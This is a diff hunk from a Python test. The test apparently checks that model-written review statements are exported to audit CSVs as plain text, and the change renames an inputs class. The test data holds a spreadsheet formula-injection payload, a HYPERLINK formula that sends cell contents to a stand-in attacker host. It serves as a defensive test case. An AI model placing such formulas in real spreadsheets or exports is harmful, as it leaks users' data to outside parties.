@@ -65,7 +65,7 @@ def test_model_written_statements_reach_the_audit_csvs_as_text(
     ref = Candidate("h", "reference", "human review")
     insts = [Instance("p1", "cs", (), ref, (Candidate("m", "gen", "model review"),))]
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    found = inputs.StudyInputs(None, insts, Path("reviews.jsonl"))  # type: ignore[arg-type]
+    found = inputs.JudgingInputs(None, insts, Path("reviews.jsonl"))  # type: ignore[arg-type]
     monkeypatch.setattr(inputs, "load_study_inputs", lambda cfg, with_mode=False: found)
     monkeypatch.setattr(
         judges,
